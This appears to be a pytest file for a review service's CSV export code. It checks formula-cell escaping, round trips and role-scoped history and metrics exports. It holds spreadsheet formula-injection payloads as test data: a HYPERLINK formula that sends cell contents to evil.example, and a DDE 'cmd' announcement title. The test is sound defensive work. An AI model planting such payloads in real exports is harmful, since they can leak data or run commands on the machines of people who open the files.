"""CSV exports: formula cells escaped, an exact round trip, and exports of history and
metrics through the typed LeadApi client on the live service, scoped by role."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from devkit.live_service import LiveService
from reviewer import contract
from reviewer.client.errors import ApiError
from reviewer.client.lead import LeadApi
from reviewer.export import (
    HISTORY_HEADER,
    escape_cell,
    export_history,
    export_metrics,
    qa_week_table,
    queue_table,
    read_csv,
    write_csv,
)
from tests.reviewer.synckit import sign_in
from tests.server.audit_kit import Clients, shared_week_service

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "'quoted already",
    'plain, with "quotes" and a comma',
    "two\nlines",
    "Lucía 名前 🙂",
    "",
    "1-2",
]


def test_formula_cells_get_an_apostrophe_and_round_trip(tmp_path: Path) -> None:
    path = tmp_path / "out" / "cells.csv"
    n = write_csv(path, ["text", "number"], [[text, i] for i, text in enumerate(HOSTILE)])
    assert n == len(HOSTILE)
    # what a spreadsheet would read: every dangerous cell now starts with an apostrophe
    with open(path, encoding="utf-8-sig", newline="") as fh:
        raw = list(csv.reader(fh))
    for (cell, _number), original in zip(raw[1:], HOSTILE, strict=True):
        if original.startswith(("=", "+", "-", "@", "\t", "\r", "'")):
            assert cell == "'" + original
        else:
            assert cell == original
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: spreadsheets detect UTF-8
    header, rows = read_csv(path)
    assert header == ["text", "number"]
    assert [r[0] for r in rows] == HOSTILE
    assert [r[1] for r in rows] == [str(i) for i in range(len(HOSTILE))]


def test_numbers_and_values_are_written_as_data() -> None:
    assert escape_cell(-5) == "-5"  # a number, not a formula
    assert escape_cell(0.25) == "0.25"
    assert escape_cell(None) == ""
    assert escape_cell(True) == "true"
    assert escape_cell("-5") == "'-5"  # text that looks like a formula start is escaped
    assert escape_cell(datetime(2026, 11, 16, 8, 0, tzinfo=UTC)) == "2026-11-16T08:00:00+00:00"


def test_a_failed_write_leaves_no_file(tmp_path: Path) -> None:
    def rows() -> Iterator[list[str]]:
        yield ["ok"]
        raise RuntimeError("the service went away")

    out = tmp_path / "exports"
    with pytest.raises(RuntimeError):
        write_csv(out / "x.csv", ["a"], rows())
    assert list(out.iterdir()) == []


@pytest.fixture(scope="module")
def week(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    live_service_template: Path,
) -> tuple[LiveService, Clients]:
    return shared_week_service(request, tmp_path_factory, live_service_template)


def _audit(service: LiveService, user: str) -> LeadApi:
    api, _tokens = sign_in(service.base_url, user, deadline_s=10)
    return LeadApi(api)


def test_history_export_is_the_filter_and_the_role_scope(
    week: tuple[LiveService, Clients], tmp_path: Path
) -> None:
    service, _users = week
    lead = _audit(service, "lead1")
    mod = _audit(service, "moderator1")
    try:
        flt = contract.AuditFilter(
            since=datetime(2026, 11, 16, tzinfo=UTC),
            until=datetime(2026, 11, 23, tzinfo=UTC),
            limit=25,  # several pages
        )
        n = export_history(lead, flt, tmp_path / "team.csv")
        header, rows = read_csv(tmp_path / "team.csv")
        assert header == list(HISTORY_HEADER)
        assert len(rows) == n > 100
        ids = [r[1] for r in rows]
        assert len(set(ids)) == n
        assert {r[HISTORY_HEADER.index("moderator")] for r in rows} == {
            "moderator1",
            "moderator2",
            "moderator3",
            "lead1",
        }
        disputed = export_history(lead, flt.model_copy(update={"disputed": True}), tmp_path / "d")
        _h, drows = read_csv(tmp_path / "d")
        assert disputed == 4
        assert {r[HISTORY_HEADER.index("dispute_status")] for r in drows} == {
            "open",
            "accepted",
            "rejected",
        }
        # the same filter as moderator1: only their own rows
        own = export_history(mod, flt, tmp_path / "own.csv")
        _h, orows = read_csv(tmp_path / "own.csv")
        assert own == len(orows) > 0
        assert {r[HISTORY_HEADER.index("moderator")] for r in orows} == {"moderator1"}
        assert {r[1] for r in orows} < set(ids)
        with pytest.raises(ApiError) as refused:
            export_history(mod, flt.model_copy(update={"moderator": "moderator2"}), tmp_path / "x")
        assert refused.value.status == 403
        assert not (tmp_path / "x").exists()
    finally:
        lead.api.close()
        mod.api.close()


def test_the_typed_client_reads_every_audit_answer(
    week: tuple[LiveService, Clients], tmp_path: Path
) -> None:
    service, _users = week
    lead = _audit(service, "lead1")
    qa = _audit(service, "qa1")
    try:
        m = lead.metrics(
            since=datetime(2026, 11, 16, tzinfo=UTC),
            until=datetime(2026, 11, 23, tzinfo=UTC),
            group_by="vendor",
        )
        assert m.scope == "team"
        assert {r.key for r in m.rows} == {"northdesk", "southdesk", "inhouse"}
        count = export_metrics(m, tmp_path / "metrics.csv")
        header, rows = read_csv(tmp_path / "metrics.csv")
        assert count == len(rows) == len(m.rows) + 1
        assert rows[-1][0] == "*"
        assert int(rows[-1][header.index("decisions")]) == m.totals.decisions
        assert "action:no_violation" in header
        assert qa_week_table(m)[1]
        assert queue_table(m)[1]
        with pytest.raises(ApiError) as refused:
            qa.metrics()
        assert refused.value.status == 403

        page = lead.decisions(contract.AuditFilter(disputed=True, limit=2))
        assert len(page.items) == 2
        assert page.next_cursor
        chain = lead.case_chain(page.items[0].case_id)
        assert any(e.kind == "dispute" for e in chain.events)
        report = lead.chain_report("moderator3")
        assert report.ok
        published = lead.publish(
            contract.AnnouncementCreate(
                title="=cmd|' /C calc'!A0",
                body="Read it.",
                target="vendor",
                target_value="northdesk",
            )
        )
        table = lead.acks(published.announcement.id)
        assert {r.username for r in table.rows} == {"moderator1", "moderator2"}
        assert table.acknowledged == 0
        listed = {a.announcement.id for a in lead.announcements().items}
        assert published.announcement.id in listed
    finally:
        lead.api.close()
        qa.api.close()
